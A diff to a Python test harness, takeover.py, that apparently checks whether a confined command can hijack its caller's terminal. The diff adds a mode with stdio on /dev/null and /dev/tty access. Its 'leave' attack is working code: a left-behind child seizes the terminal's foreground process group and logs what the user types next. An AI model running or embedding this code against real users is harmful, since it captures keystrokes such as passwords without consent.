@@ -13,11 +13,17 @@ the terminal for it, as type-ahead does). Prints "job: N" (the job's status,
 128+N for a death by signal N) and "shell read: TEXT" (Python's repr of the
 bytes, b'' when it got nothing within 2 s).
 
+takeover.py away EARLY LATE COMMAND...: the same, but the job's stdin, stdout
+and stderr are /dev/null, as a harness at a shell runs a command
+(`</dev/null >log 2>&1`): none of its descriptors is the terminal, which is
+still its controlling terminal (/dev/tty).
+
 takeover.py leave LOG: the attack, as a confined command. It exits at once
 and leaves a child that ignores SIGTTOU, SIGTTIN and SIGHUP, waits until the
 caller's shell has taken the terminal back, makes its own process group the
 terminal's foreground (tcsetpgrp: the same session, no permission check),
-and reads what is typed next; out of the terminal's session (setsid, or
+and reads what is typed next (through /dev/tty, when its stdin is not
+the terminal); out of the terminal's session (setsid, or
 --new-session), where tcgetpgrp fails, it just reads, as nothing stops it.
 What it read is appended to LOG."""
 import os
@@ -34,29 +40,34 @@ def leave(log):
         os._exit(0)
     for sig in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP):
         signal.signal(sig, signal.SIG_IGN)
+    tty = 0 if os.isatty(0) else os.open("/dev/tty", os.O_RDWR)
     mine = os.getpgrp()
     deadline = time.monotonic() + 5
     while time.monotonic() < deadline:
         try:
-            if os.tcgetpgrp(0) != mine:
-                os.tcsetpgrp(0, mine)
+            if os.tcgetpgrp(tty) != mine:
+                os.tcsetpgrp(tty, mine)
                 break
         except OSError:
             break  # not its controlling terminal: no job control stops a read
         time.sleep(0.01)
     got = b""
-    if select.select([0], [], [], 4)[0]:
+    if select.select([tty], [], [], 4)[0]:
         try:
-            got = os.read(0, 4096)
+            got = os.read(tty, 4096)
         except OSError:
             pass
     with open(log, "ab") as f:
         f.write(got)
 
 
-def shell(slave, to_typer, command):
+def shell(slave, to_typer, command, away):
     ptyjob.lead(slave)
-    job = ptyjob.start(slave, command)
+    stdio = None
+    if away:
+        null = os.open(os.devnull, os.O_RDWR)
+        stdio = (null, null, null)
+    job = ptyjob.start(slave, command, stdio)
     os.write(to_typer, b"started\n")
     _, status = os.waitpid(job, 0)
     code = os.waitstatus_to_exitcode(status)
@@ -77,14 +88,14 @@ def shell(slave, to_typer, command):
     os._exit(0)
 
 
-def typer(early, late, command):
+def typer(early, late, command, away):
     master, slave = os.openpty()
     r, w = os.pipe()
     pid = os.fork()
     if pid == 0:
         os.close(master)
         os.close(r)
-        shell(slave, w, command)
+        shell(slave, w, command, away)
     os.close(slave)
     os.close(w)
     said = os.fdopen(r)
@@ -113,4 +124,4 @@ def typer(early, late, command):
 if sys.argv[1] == "leave":
     leave(sys.argv[2])
 else:
-    typer(sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4:])
+    typer(sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4:], sys.argv[1] == "away")
